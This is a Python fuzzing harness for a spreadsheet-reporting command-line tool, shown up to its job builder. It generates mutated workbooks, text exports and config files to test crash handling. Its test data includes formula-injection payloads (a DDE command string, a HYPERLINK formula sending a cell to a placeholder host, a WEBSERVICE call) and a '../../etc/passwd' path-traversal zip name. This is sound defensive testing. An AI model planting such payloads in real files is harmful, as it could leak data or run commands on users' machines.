"""Fuzzing harness: mutants of the bundled example through every command, each run classified.

Every mutant is one file (a mutation of one zip member, of the zip structure, hostile content put
into the workbook, or a mutation of a text export) run through the command line in a worker
process, with a timeout. Every mutant goes through ``validate``; each also goes through one more
command, in turn (``--commands``, default all of :data:`COMMANDS`): ``run -o``, ``dropdowns -o``,
``rollup -o``, ``highlight -o``, ``clear -o`` and ``clear --all -o`` (on mutants of the example
after ``run``: lists, records, summary and findings sheet to undo), ``compare`` (the mutant as the
previous report against the clean example, and the clean example against the mutant, ``-o``),
``split`` (to a fresh folder), ``merge`` (the clean example as the master, a folder of its clean
split in which one returned person file is the mutant), ``merge-master`` (the mutant as the master,
the clean split returned), ``previous`` (the mutant as ``--previous`` of ``highlight``),
``config`` (a mutated ``seuranta.toml`` given to ``validate``, ``run`` and ``new``), ``import`` (mutants of the seed text
export) and ``api`` (the ribbon-free Python API: validate, compute_rollup, to_frame, compare both
ways, split, and merge of that split back into the mutant).

- ``clean``: exit 0 or 1 (a report), no traceback;
- ``exit2``: exit 2 with exactly one stderr line, no traceback, not "odottamaton virhe";
- ``other``: anything else - a traceback, "odottamaton virhe", an abort (exit 134), more than one
  stderr line, a run over the time limit, an input file changed on disk (every input is hashed
  before and after), a formula cell in a written workbook. The goal is none.

Workers are separate processes that run many mutants each (starting Python per mutant would
cost most of the budget); a worker that dies or overruns is killed, its mutant classified
``other`` and a fresh worker started, so one mutant can never take the run down.

Long run (results in RESULTS.md beside this file)::

    python tests/fuzz/fuzz.py --seed 61 --count 600 --budget 400 --jobs 1 --results tests/fuzz/RESULTS.md
    python tests/fuzz/fuzz.py --commands split,merge --count 200   # some commands only

The default test suite runs a short smoke run (tests/test_fuzz_smoke.py). This file is not
collected by pytest (its name does not start with ``test_``).
"""

from __future__ import annotations

import argparse
import io
import json
import os
import random
import re
import select
import shutil
import struct
import subprocess
import sys
import tempfile
import time
import warnings
import zipfile
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Iterator

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
EXAMPLE = ROOT / "workbook" / "examples" / "seuranta_1-9_2021.xlsx"
MAIN_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TIME_LIMIT = 10.0
SHEET = "xl/worksheets/sheet1.xml"


# --- the mutants -------------------------------------------------------------------------------


def read_members(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(info, z.read(info)) for info in z.infolist()]


def pack(members: list[tuple[str, bytes]], compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", compress) as z:
        warnings.simplefilter("ignore")  # duplicate names are one of the mutations
        for name, data in members:
            z.writestr(name, data)
    return out.getvalue()


def shared_strings_variant(data: bytes) -> bytes:
    """The example with its text in a shared-strings part, as Excel saves it."""
    inline = re.compile(rb'<c ([^>]*?)t="inlineStr"([^>]*)><is><t(?: [^>]*)?>(.*?)</t></is></c>', re.S)
    strings: list[bytes] = []

    def to_index(m: re.Match) -> bytes:
        strings.append(m.group(3))
        return b"<c " + m.group(1) + b't="s"' + m.group(2) + b"><v>%d</v></c>" % (len(strings) - 1)

    members = []
    for info, body in read_members(data):
        if info.filename.startswith("xl/worksheets/sheet"):
            body = inline.sub(to_index, body)
        elif info.filename == "xl/_rels/workbook.xml.rels":
            body = body.replace(b"</Relationships>", b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.'
                                b'org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
                                b"</Relationships>")
        elif info.filename == "[Content_Types].xml":
            body = body.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                                b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
        members.append((info.filename, body))
    sst = (b'<sst xmlns="' + MAIN_NS + b'" count="%d" uniqueCount="%d">' % (len(strings), len(strings))
           + b"".join(b'<si><t xml:space="preserve">' + s + b"</t></si>" for s in strings) + b"</sst>")
    return pack(members + [("xl/sharedStrings.xml", sst)])


def _bytes_ops(rng: random.Random, body: bytes) -> tuple[str, bytes]:
    """A blind mutation of a member's bytes."""
    if not body:
        return "empty", rng.randbytes(rng.randint(1, 64))
    op = rng.choice(["flip", "delete", "insert", "duplicate", "truncate", "random", "zero"])
    at = rng.randrange(len(body))
    if op == "flip":
        data = bytearray(body)
        for _ in range(rng.randint(1, 8)):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
        return op, bytes(data)
    if op == "delete":
        return op, body[:at] + body[at + rng.randint(1, 256):]
    if op == "insert":
        return op, body[:at] + rng.randbytes(rng.randint(1, 64)) + body[at:]
    if op == "duplicate":
        end = min(len(body), at + rng.randint(1, 4096))
        return op, body[:end] + body[at:end] * rng.randint(1, 50) + body[end:]
    if op == "truncate":
        return op, body[:at]
    if op == "zero":
        return op, b"\x00" * len(body)
    return op, rng.randbytes(len(body))


_TAG = re.compile(rb"</?[A-Za-z][^<>]{0,200}>")


def _xml_ops(rng: random.Random, body: bytes) -> tuple[str, bytes]:
    """A structure-aware mutation of an XML member (tags, attributes, numbers, DTDs, encodings)."""
    tags = list(_TAG.finditer(body[:2_000_000]))
    op = rng.choice(["drop_tag", "dup_tag", "number", "dtd", "utf16", "comment_cells", "quotes", "lower_refs",
                     "no_refs", "prefix", "far_cell", "style", "cdata", "huge_attr", "backtrack"])
    if op in ("drop_tag", "dup_tag") and tags:
        m = rng.choice(tags)
        if op == "drop_tag":
            return op, body[:m.start()] + body[m.end():]
        return op, body[:m.end()] + m.group() * rng.randint(1, 20) + body[m.end():]
    if op == "number":
        numbers = list(re.finditer(rb'="(\d+)"', body[:2_000_000]))
        if numbers:
            m = rng.choice(numbers)
            value = rng.choice([b"0", b"-1", b"4294967296", b"99999999999999999999", b"1e9", b"", b"x"])
            return op, body[:m.start(1)] + value + body[m.end(1):]
    if op == "dtd":
        return op, b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"a" * 100 + b'">]>' + re.sub(
            rb"^<\?xml[^>]*\?>", b"", body)
    if op == "utf16":
        text = re.sub(rb"^<\?xml[^>]*\?>", b"", body).decode("utf-8", "replace")
        return op, ('<?xml version="1.0" encoding="UTF-16"?>' + rng.choice(["", '<!DOCTYPE x [<!ENTITY a "b">]>'])
                    + text).encode("utf-16")
    if op == "comment_cells":
        filler = rng.choice([b"<c ", b'<c r="A1">', b"<x:c ", b"<row "]) * rng.randint(1000, 20000)
        return op, body.replace(b"</sheetData>", b"<!-- " + filler + b" --></sheetData>", 1) if b"</sheetData>" in body \
            else body + b"<!-- " + filler + b" -->"
    if op == "cdata":
        return op, body.replace(b"<v>", b"<v><![CDATA[" + b"<c " * rng.randint(10, 5000) + b"]]>", 1)
    if op == "quotes":
        return op, re.sub(rb'r="([A-Z]+\d+)"', rb"r='\1'", body)
    if op == "lower_refs":
        return op, re.sub(rb'r="([A-Z]+)(\d+)"', lambda m: b'r="' + m.group(1).lower() + m.group(2) + b'"', body)
    if op == "no_refs":
        return op, re.sub(rb' r="[A-Z]+\d+"', b"", body)
    if op == "prefix":
        return op, body.replace(b"<worksheet xmlns=", b"<x:worksheet xmlns:x=\"" + MAIN_NS + b"\" xmlns=", 1)
    if op == "far_cell":
        ref = rng.choice([b"XFD1048576", b"xfd1048576", b"A1048576", b"XFD1", b"XFE1", b"A1048577", b"A0"])
        cell = rng.choice([b'<c r="%s"><v>1</v></c>', b"<c r='%s'><v>1</v></c>",
                           b'<x:c xmlns:x="' + MAIN_NS + b'" r="%s"><x:v>1</x:v></x:c>']) % ref
        return op, body.replace(b"</sheetData>", b"<row>" + cell + b"</row></sheetData>", 1)
    if op == "style":
        return op, re.sub(rb'<c r="([A-Z]+\d+)"', lambda m: m.group() + b' s="%d"' % rng.choice([999, 65536, 2**31]),
                          body, count=rng.randint(1, 5))
    if op == "huge_attr":
        return op, body.replace(b"<", b'<a b="' + b"x" * rng.randint(10_000, 500_000) + b'"/><', 2)[1:] \
            if rng.random() < 0.5 else body.replace(b"<sheetData>", b"<sheetData>" + b"<row/>" * 50_000, 1)
    if op == "backtrack":
        return op, _backtrack(rng, body)
    return _bytes_ops(rng, body)


def _backtrack(rng: random.Random, body: bytes) -> bytes:
    """What makes a regex-based reader backtrack for minutes: long whitespace runs where a pattern
    may split them (inside cells and rich text), elements that lose their end tag in every cell, runs
    of empty shared strings. A linear reader takes these in well under the time limit."""
    run = b" " * rng.randint(30, 2_000_000)
    kind = rng.choice(["unclosed_is", "space_in_cell", "space_in_text", "empty_strings", "unclosed_v"])
    if kind == "unclosed_is":
        return body.replace(b"</t></is></c>", b"</t></c>").replace(b"</t></is>", b"</t>")
    if kind == "unclosed_v":
        return body.replace(b"</v></c>", b"</c>")
    if kind == "space_in_cell":
        return body.replace(b"</c>", run + b"x</c>", 1)
    if kind == "space_in_text":
        return body.replace(b"<is><t>", b"<is>" + run + b"<x/><t>", 1).replace(b"<si><t>", b"<si>" + run + b"<x/><t>", 1)
    return body.replace(b"<si>", b"<si/>" * rng.randint(1000, 1_000_000) + b"<si>", 1)


def _zip_ops(rng: random.Random, data: bytes, members: list[tuple[zipfile.ZipInfo, bytes]]) -> tuple[str, bytes]:
    """A mutation of the package structure itself."""
    op = rng.choice(["drop_member", "dup_name", "method", "truncate", "central_flip", "declared_size", "rename",
                     "stored", "encrypted_flag", "empty_zip", "extra_member", "sheet_missing", "nested_dir",
                     "layout", "spelling", "backslashes"])
    names = [info.filename for info, _ in members]
    if op == "layout":
        kind = rng.choice(["descriptors", "zip64", "comment", "folders_twice"])
        return f"{op}:{kind}", _layout(kind, [(i.filename, b) for i, b in members])
    if op == "spelling":
        kind, renames, edits = _spelling(rng)
        rebuilt = []
        for info, body in members:
            for old, new in edits.get(info.filename, ()):
                body = body.replace(old, new)
            rebuilt.append((renames.get(info.filename, info.filename), body))
        return f"{op}:{kind}", pack(rebuilt)
    if op == "backslashes":
        every = rng.random() < 0.5
        return op, pack([(i.filename.replace("/", "\\") if every or i.filename == SHEET else i.filename, b)
                         for i, b in members])
    if op == "drop_member":
        drop = rng.choice(names)
        return op + ":" + drop, pack([(i.filename, b) for i, b in members if i.filename != drop])
    if op == "dup_name":
        pick = rng.choice(members)
        return op, pack([(i.filename, b) for i, b in members] + [(pick[0].filename, rng.randbytes(100))])
    if op in ("method", "encrypted_flag", "declared_size"):
        buf = bytearray(data)
        offsets = [m.start() for m in re.finditer(rb"PK\x01\x02", data)] + [m.start() for m in re.finditer(rb"PK\x03\x04", data)]
        for at in rng.sample(offsets, k=min(len(offsets), rng.randint(1, 3))):
            central = buf[at:at + 4] == b"PK\x01\x02"
            if op == "method":
                pos = at + (10 if central else 8)
                struct.pack_into("<H", buf, pos, rng.choice([1, 6, 9, 12, 14, 93, 95, 98, 99]))
            elif op == "encrypted_flag":
                pos = at + (8 if central else 6)
                struct.pack_into("<H", buf, pos, struct.unpack_from("<H", buf, pos)[0] | 1)
            else:
                pos = at + (24 if central else 22)
                struct.pack_into("<I", buf, pos, rng.choice([0, 1, 0x7FFFFFFF, 0xFFFFFFFF]))
        return op, bytes(buf)
    if op == "truncate":
        return op, data[:rng.randrange(len(data))]
    if op == "central_flip":
        buf = bytearray(data)
        start = data.rfind(b"PK\x01\x02") if rng.random() < 0.5 else data.rfind(b"PK\x05\x06")
        for _ in range(rng.randint(1, 6)):
            buf[rng.randrange(max(start, 0), len(buf))] ^= 1 << rng.randrange(8)
        return op, bytes(buf)
    if op == "rename":
        old = rng.choice(names)
        new = rng.choice(["../../etc/passwd", "/abs.xml", "xl/worksheets/sheet1.xml", old.upper(), old + "\x00x", "ä/ö.xml"])
        return op, pack([(new if i.filename == old else i.filename, b) for i, b in members])
    if op == "stored":
        return op, pack([(i.filename, b) for i, b in members], zipfile.ZIP_STORED)
    if op == "empty_zip":
        return op, pack([])
    if op == "extra_member":
        return op, pack([(i.filename, b) for i, b in members]
                        + [("xl/worksheets/sheet9.xml", rng.randbytes(200)), ("docProps/custom.xml", b"<x/>" * 1000)])
    if op == "sheet_missing":
        return op, pack([(i.filename, b.replace(b"</sheets>", b'<sheet name="Puuttuu" sheetId="77" r:id="rId77"/></sheets>')
                          if i.filename == "xl/workbook.xml" else b) for i, b in members])
    return op, pack([(i.filename, b) for i, b in members] + [("xl/worksheets/", b"")])


#: Spellings of a part name OPC allows or tools write (files/opc.py): kind → (member renames, edits
#: of members' bytes).
_RELS, _TYPES = "xl/_rels/workbook.xml.rels", "[Content_Types].xml"
_SHEET_TARGET, _SHEET_PART = b'Target="/xl/worksheets/sheet1.xml"', b'PartName="/xl/worksheets/sheet1.xml"'
SPELLINGS: dict[str, tuple[dict[str, str], dict[str, list[tuple[bytes, bytes]]]]] = {
    "percent": ({}, {_RELS: [(_SHEET_TARGET, b'Target="worksheets/%73heet%31.xml"')]}),
    "decoded": ({SHEET: "xl/worksheets/sheet 1.xml"}, {
        _RELS: [(_SHEET_TARGET, b'Target="worksheets/sheet%201.xml"')],
        _TYPES: [(_SHEET_PART, b'PartName="/xl/worksheets/sheet%201.xml"')]}),
    "iri": ({SHEET: "xl/worksheets/taulukko\u00e4.xml"}, {
        _RELS: [(_SHEET_TARGET, b'Target="worksheets/taulukko%C3%A4.xml"')],
        _TYPES: [(_SHEET_PART, b'PartName="/xl/worksheets/taulukko%C3%A4.xml"')]}),
    "dots": ({}, {_RELS: [(_SHEET_TARGET, b'Target="./worksheets/../worksheets//sheet1.xml"')],
                  "_rels/.rels": [(b'Target="xl/workbook.xml"', b'Target="./xl/workbook.xml"')]}),
    "spaces": ({}, {_RELS: [(_SHEET_TARGET, b'Target=" worksheets/sheet1.xml\n"')]}),
    "fragment": ({}, {_RELS: [(_SHEET_TARGET, b'Target="worksheets/sheet1.xml#A1"')]}),
    "types_case": ({_TYPES: "[content_types].xml"}, {}),
    "no_package_rels": ({"_rels/.rels": "_rels/.rels.bak"}, {}),
}


def _spelling(rng: random.Random) -> tuple[str, dict[str, str], dict[str, list[tuple[bytes, bytes]]]]:
    kind = rng.choice(sorted(SPELLINGS))
    return (kind, *SPELLINGS[kind])


class Unseekable(io.RawIOBase):
    """A stream zipfile cannot seek back in: each member gets a data descriptor."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, chunk) -> int:
        self.data += chunk
        return len(chunk)


def _layout(kind: str, members: list[tuple[str, bytes]]) -> bytes:
    """The same members in a zip layout Excel opens: data descriptors, zip64 records, a comment,
    folder entries (``xl/`` twice)."""
    if kind == "folders_twice":
        return pack([("xl/", b""), ("xl/worksheets/", b""), ("xl/", b"")] + members)
    out = Unseekable() if kind == "descriptors" else io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            with z.open(name, "w", force_zip64=kind == "zip64") as fh:
                fh.write(data)
        if kind == "comment":
            z.comment = "kommentti \u00e4".encode() * 100
    return bytes(out.data) if isinstance(out, Unseekable) else out.getvalue()


HOSTILE_TEXTS = [
    "_x0001_=HYPERLINK(\"http://e.invalid/?d=\"&A1)", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1",
    "_x0007_=WEBSERVICE(\"http://e.invalid\")", "\x1b[2J\x1b[HKAIKKI OK", "\u202eesrever", "#N/A", "TRUE", "01.05",
    "x" * 40_000, "_x005F_x0001_", "'quoted", "\n\n\n", "Talousjohtaja\x00", "🙂" * 1000,
]


#: Values that mean something to a reader of our own records (sheet, cell, code, purpose, hash) or
#: of a grade: put into any sheet's cells by the ``semantic`` mutation.
TOKENS = ["A0", "XFD1048577", "ZZZZ1", "A1:XFD1048576", "", " ", "Seuranta", "'Seuranta'!A1", "Listat", "_seuranta",
          "Yhteenveto", "Tarkistus", "01.", "01.05", "01.05.01", "99.99.99.99", "1.10", "-1", "0", "6", "3.5", "1e309",
          "NaN", "value", "status", "mark", "dropdown", "print", "sha256:", "0" * 64, "x" * 300, "A1048576", "E14",
          "Talousjohtaja", "3 Toteutus on aloitettu, ei vielä valmis", "ei sovellu", "N/A", "=A1", "#REF!"]
WEIRD_NUMBERS = [b"1e309", b"-1e309", b"NaN", b"inf", b"-0", b"99999999999999999999", b"4.9E-324", b"", b"1,5", b"0x10",
                 b"3", b"6", b"-1", b"45000", b"2958466", b"1e-400"]


def _semantic(rng: random.Random, data: bytes, members: list[tuple[zipfile.ZipInfo, bytes]]) -> tuple[str, bytes]:
    """Well-formed but meaningful cell changes on any sheet (our lists and records, the person
    file's record, the report): tokens into text cells, odd numbers into number cells, cells turned
    into errors, booleans or dates."""
    op = rng.choice(["text", "number", "type"])
    sheets = [i for i, (info, _) in enumerate(members) if info.filename.startswith("xl/worksheets/sheet")]
    strings = [i for i, (info, _) in enumerate(members) if info.filename == "xl/sharedStrings.xml"]
    out = [(info.filename, body) for info, body in members]
    if not sheets:
        return "semantic:none", data
    index = rng.choice(sheets + strings if op == "text" else sheets)
    name, body = out[index]
    token = rng.choice(TOKENS + HOSTILE_TEXTS[:6])
    escaped = token.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode("utf-8")
    if op == "text":
        found = list(re.finditer(rb"<t(?: [^>]*)?>([^<]*)</t>", body))
        for m in sorted(rng.sample(found, k=min(len(found), rng.randint(1, 5))), key=lambda m: -m.start()):
            body = body[:m.start(1)] + escaped + body[m.end(1):]
    elif op == "number":
        found = list(re.finditer(rb"<v>([^<]*)</v>", body))
        for m in sorted(rng.sample(found, k=min(len(found), rng.randint(1, 5))), key=lambda m: -m.start()):
            body = body[:m.start(1)] + rng.choice(WEIRD_NUMBERS) + body[m.end(1):]
    else:
        kind = rng.choice([b't="e"><v>#REF!</v>', b't="b"><v>1</v>', b't="d"><v>2021-13-45T25:61</v>',
                           b't="str"><v>' + escaped + b"</v>", b't="n"><v>1e309</v>', b't="s"><v>999999</v>'])
        found = list(re.finditer(rb'<c ([^>]*?)t="inlineStr"([^>]*)><is>.*?</is>', body, re.S))
        for m in sorted(rng.sample(found, k=min(len(found), rng.randint(1, 5))), key=lambda m: -m.start()):
            body = body[:m.start()] + b"<c " + m.group(1) + m.group(2) + b" " + kind + body[m.end():]
    out[index] = (name, body)
    return f"semantic:{name}:{op}:{token[:12].encode('unicode_escape').decode()}", pack(out)


def _hostile(rng: random.Random, data: bytes, members: list[tuple[zipfile.ZipInfo, bytes]]) -> tuple[str, bytes]:
    """Hostile cell content (formula-like text, escapes, controls) put into a name or role cell."""
    text = rng.choice(HOSTILE_TEXTS)
    escaped = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", lambda m: f"_x{ord(m.group()):04X}_", text)
    escaped = escaped.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode("utf-8")
    out = []
    for info, body in members:
        if info.filename == SHEET:
            cells = list(re.finditer(rb"<is><t(?: [^>]*)?>(.*?)</t></is>", body))
            for m in rng.sample(cells, k=min(len(cells), rng.randint(1, 5))) if cells else []:
                body = body.replace(m.group(), b"<is><t>" + escaped + b"</t></is>", 1)
        out.append((info.filename, body))
    return "hostile:" + text[:12].encode("unicode_escape").decode(), pack(out)


TEXT_EXPORT = ROOT / "tests" / "data" / "seed_report.txt"


def _text_ops(rng: random.Random, body: bytes) -> tuple[str, bytes]:
    """A mutation of a text export (encodings, delimiters, quotes, hostile cells, long lines, bytes)."""
    op = rng.choice(["utf16", "utf16_bom_lost", "bom", "cp1252", "semicolon", "comma", "quote", "hostile", "long_line",
                     "wide", "nul", "cr", "many_rows", "bytes", "bytes"])
    text = body.decode("utf-8")
    if op == "utf16":
        return op, text.encode(rng.choice(["utf-16", "utf-16-le", "utf-16-be"]))
    if op == "utf16_bom_lost":
        return op, text.encode("utf-16")[2:][:rng.randrange(1, 2 * len(text))]
    if op == "bom":
        return op, b"\xef\xbb\xbf" * rng.randint(1, 3) + body
    if op == "cp1252":
        return op, text.encode("cp1252", "replace")
    if op in ("semicolon", "comma"):
        return op, text.replace("\t", ";" if op == "semicolon" else ",").encode("utf-8")
    if op == "quote":
        lines = text.split("\n")
        at = rng.randrange(len(lines))
        lines[at] = '"' * rng.randint(1, 3) + lines[at]
        return op, "\n".join(lines).encode("utf-8")
    if op == "hostile":
        lines = text.split("\n")
        for _ in range(rng.randint(1, 5)):
            at = rng.randrange(len(lines))
            cells = lines[at].split("\t")
            cells[rng.randrange(len(cells))] = rng.choice(HOSTILE_TEXTS).replace("\n", " ")
            lines[at] = "\t".join(cells)
        return op, "\n".join(lines).encode("utf-8")
    if op == "long_line":
        return op, body + b"x" * rng.randint(100_000, 5_000_000) + b"\n"
    if op == "wide":
        return op, body + b"\t" * rng.randint(1000, 100_000) + b"x\n"
    if op == "nul":
        return op, body.replace(b"\t", b"\t\x00", rng.randint(1, 20))
    if op == "cr":
        return op, body.replace(b"\n", b"\r")
    if op == "many_rows":  # import costs about 0.25 ms a row (openpyxl): 30,000 rows came near the time limit
        return op, body + b"01.01.01 x\t\t\t\t\t3\tx\tTalousjohtaja\n" * rng.randint(1000, 15_000)
    return _bytes_ops(rng, body)


CONFIG = """[seuranta]
language = "fi"
ignore = ["T"]
severity = { R103 = "warning" }
mismatch_threshold = 1.0
roles = ["Kunnanjohtaja", "Talousjohtaja", "Hallintojohtaja", "Henkilöstöjohtaja", "Sivistysjohtaja", "Kasvu- ja ympäristöjohtaja"]
margin_rows = 200

[seuranta.required]
annual = ["grade", "progress", "responsible"]
action = ["grade", "progress", "responsible"]

[seuranta.status_thresholds]
green = 4.0
yellow = 2.5

[seuranta.schedule]
start = "2021-01"
end = "2024-12"
target = 5
periods = { "1-4/2021" = 2, "1-9/2021" = 2.5 }
"""
#: What a TOML value can be replaced with: other types, extremes, empties, hostile text.
CONFIG_VALUES = ['""', '"x"', "0", "-1", "1000000000", "99999999999999999999", "inf", "nan", "-inf", "1e308", "true",
                 "[]", "[1, 2]", '["", ""]', "{}", "{ a = 1 }", "1979-05-27", '"2021-13"', '"9999-99"', '"1-13/2021"',
                 '"=cmd|\' /C calc\'!A0"', '"' + "x" * 100_000 + '"', "[" + ", ".join(['"r"'] * 50_000) + "]",
                 '"\\u0000"', '"Kunnanjohtaja"', '"en"', '"xx"', '["G", "H", "C", "R", "P", "T", "S", "U", "F"]']

#: Values of each TOML type (by the first character of the value they replace): extremes that type-check.
SAME_TYPE = {
    '"': ['""', '" "', '"x"', '"' + "ä" * 10_000 + '"', '"=1+1"', '"_x0001_"', '"2021-01"', '"9999-12"', '"0001-01"',
          '"1-9/2021"', '"fi"', '"sv"', '"en"', '"\\u202e"'],
    "[": ['[]', '[""]', '["Talousjohtaja", "Talousjohtaja"]', "[" + ", ".join(f'"r{i}"' for i in range(20_000)) + "]",
          '["=1+1", "@SUM(1)", "-1"]', '["G1", "H"]', '["' + "x" * 10_000 + '"]', '["grade"]', '["code", "code"]'],
    "{": ['{}', '{ G101 = "info" }', '{ "1-9/2021" = 5, "1-9/2022" = 1 }', '{ "1-13/2021" = 3 }',
          '{ "1-9/2021" = 1e308 }', '{ "1-9/2021" = -1 }', '{ "x" = 1 }'],
    **{d: ["0", "1", "5", "-1", "0.0001", "1e-300", "1e308", "1000000000", "1048576", "16384", "4.9999", "nan", "inf"]
       for d in "0123456789-"},
}


def _config_ops(rng: random.Random) -> tuple[str, bytes]:
    """A mutation of a seuranta.toml: a value of another type or size, a key unknown or doubled,
    a table nested deep, or blind bytes."""
    op = rng.choice(["value", "value", "value", "key", "duplicate", "deep", "bytes"])
    lines = CONFIG.split("\n")
    values = [i for i, line in enumerate(lines) if " = " in line]
    if op == "value":  # half the time a value of the same type (the model is strict: those get further)
        for i in rng.sample(values, k=rng.randint(1, 3)):
            key, was = lines[i].split(" = ", 1)
            same = SAME_TYPE.get(was.strip()[:1], CONFIG_VALUES) if rng.random() < 0.5 else CONFIG_VALUES
            value = rng.choice(same)
            lines[i] = f"{key} = {value}"
            op += ":" + key.strip()
        return op, "\n".join(lines).encode("utf-8")
    if op == "key":
        i = rng.choice(values)
        lines.insert(i, rng.choice(["unknown = 1", "limits = 1", "columns = { x = 1 }", "scale = { 7 = \"x\" }",
                                    "max_cells = -1", "select = [\"\"]", "\"\" = 1"]))
        return op, "\n".join(lines).encode("utf-8")
    if op == "duplicate":
        return op, "\n".join(lines + [rng.choice(["[seuranta]", "[seuranta.schedule]", "[seuranta.required]"])]).encode()
    if op == "deep":
        return op, (CONFIG + "[seuranta.columns]\n" + "x = " + "[" * 5000 + "]" * 5000 + "\n").encode()
    return _bytes_ops(rng, CONFIG.encode("utf-8"))


def mutant(rng: random.Random, bases: list[bytes]) -> tuple[str, bytes]:
    """One mutant (kind, bytes) of one of ``bases`` (workbooks)."""
    data = rng.choice(bases)
    members = read_members(data)
    family = rng.choice(["member", "member", "xml", "xml", "xml", "zip", "hostile", "semantic", "semantic"])
    if family == "zip":
        op, result = _zip_ops(rng, data, members)
        return f"zip:{op}", result
    if family == "semantic":
        return _semantic(rng, data, members)
    if family == "hostile":
        return _hostile(rng, data, members)
    xml_members = [i for i, (info, _) in enumerate(members) if info.filename.endswith((".xml", ".rels"))]
    index = rng.choice(xml_members if family == "xml" else range(len(members)))
    info, body = members[index]
    op, new = (_xml_ops if family == "xml" else _bytes_ops)(rng, body)
    rebuilt = [(i.filename, new if k == index else b) for k, (i, b) in enumerate(members)]
    return f"{family}:{info.filename}:{op}", pack(rebuilt)


def mutants(seed: int, count: int) -> Iterator[tuple[str, bytes]]:
    """``count`` mutants (kind, bytes) of the bundled example, the same for the same seed."""
    rng = random.Random(seed)
    bases = [EXAMPLE.read_bytes()]
    bases.append(shared_strings_variant(bases[0]))
    for _ in range(count):
        yield mutant(rng, bases)


# --- the commands --------------------------------------------------------------------------------

#: Every command a mutant can go through besides ``validate`` (which every mutant goes through):
#: mutant i goes through the (i mod n)-th of those chosen (``--commands``), round-robin.
COMMANDS = ("run", "dropdowns", "rollup", "highlight", "clear", "clear-all", "compare-old", "compare-new", "split",
            "merge", "merge-master", "import", "previous", "config", "api")


@dataclass
class Fixtures:
    """The clean files the commands take beside the mutant, made once per run in ``folder``:
    the example (``clean``), the example after ``run`` (``marked``: lists, records, summary, findings
    sheet; what ``clear`` undoes) and a clean split of the example (``person``: the returned files)."""

    folder: Path
    clean: Path
    marked: Path
    split: Path

    @classmethod
    def make(cls, folder: Path) -> "Fixtures":
        clean = folder / "clean.xlsx"
        shutil.copy(EXAMPLE, clean)
        marked, split = folder / "marked.xlsx", folder / "split"
        env = dict(os.environ, PYTHONIOENCODING="utf-8", PYTHONPATH=str(ROOT))
        for args in (["run", str(clean), "-o", str(marked)], ["split", str(clean), "-o", str(split)]):
            subprocess.run([sys.executable, "-m", "seuranta_xl", *args], env=env, cwd=str(ROOT), check=True,
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        return cls(folder, clean, marked, split)

    def persons(self) -> list[Path]:
        return sorted(self.split.glob("*.xlsx"))


@dataclass
class Job:
    """One command on one mutant: its arguments, the files it reads (hashed before and after) and
    the files or folders it writes (checked for formula cells)."""

    index: int
    kind: str
    path: Path
    command: str
    args: list[str]
    inputs: list[Path]
    outputs: list[Path] = field(default_factory=list)


def base_of(command: str) -> str:
    """Which clean file a command's mutants are made from."""
    return {"merge": "person", "import": "text", "clear": "marked", "clear-all": "marked",
            "config": "config"}.get(command, "report")


def jobs_for(index: int, path: Path, kind: str, command: str, fx: Fixtures) -> list[Job]:
    """validate for every mutant, and ``command`` (one of COMMANDS)."""
    folder = fx.folder
    out = folder / f"out{index}.xlsx"
    if command == "config":  # the mutant is a settings file: validate, run and new with it
        return [Job(index, kind, path, "validate", ["validate", str(fx.clean), "--config", str(path)], [path, fx.clean]),
                Job(index, kind, path, "config", ["run", str(fx.clean), "-o", str(out), "--config", str(path)],
                    [path, fx.clean], [out]),
                Job(index, kind, path, "config", ["new", str(folder / f"new{index}.xlsx"), "--config", str(path)],
                    [path], [folder / f"new{index}.xlsx"])]
    jobs = [Job(index, kind, path, "validate", ["validate", str(path)], [path])]

    def job(args: list[str], inputs: list[Path], outputs: list[Path] = ()) -> Job:
        return Job(index, kind, path, command, args, inputs, list(outputs))

    if command in ("run", "dropdowns", "rollup", "highlight", "clear"):
        jobs.append(job([command, str(path), "-o", str(out)], [path], [out]))
    elif command == "clear-all":
        jobs.append(job(["clear", str(path), "--all", "-o", str(out)], [path], [out]))
    elif command == "compare-old":  # the mutant as the previous report
        jobs.append(job(["compare", str(path), str(fx.clean), "-o", str(out)], [path, fx.clean], [out]))
    elif command == "compare-new":  # the mutant as this period's report
        jobs.append(job(["compare", str(fx.clean), str(path), "-o", str(out)], [fx.clean, path], [out]))
    elif command == "split":
        target = folder / f"split{index}"
        jobs.append(job(["split", str(path), "-o", str(target)], [path], [target]))
    elif command == "merge":  # the mutant is one returned file beside the others, clean
        returned = path.parent
        jobs.append(job(["merge", str(fx.clean), str(returned), "-o", str(out)],
                        [fx.clean, *sorted(returned.iterdir())], [out]))
    elif command == "merge-master":  # the mutant as the master, the clean split returned
        jobs.append(job(["merge", str(path), str(fx.split), "-o", str(out)], [path, *fx.persons()], [out]))
    elif command == "previous":  # the mutant as the previous report of S101
        jobs.append(job(["highlight", str(fx.clean), "--previous", str(path), "-o", str(out)], [path, fx.clean], [out]))
    elif command == "import":
        jobs.append(job(["import", str(path), "-o", str(out)], [path], [out]))
    elif command == "api":
        jobs.append(job(["@api", str(path), str(fx.clean), str(folder / f"api{index}")], [path, fx.clean],
                        [folder / f"api{index}"]))
    else:
        raise ValueError(command)
    return jobs


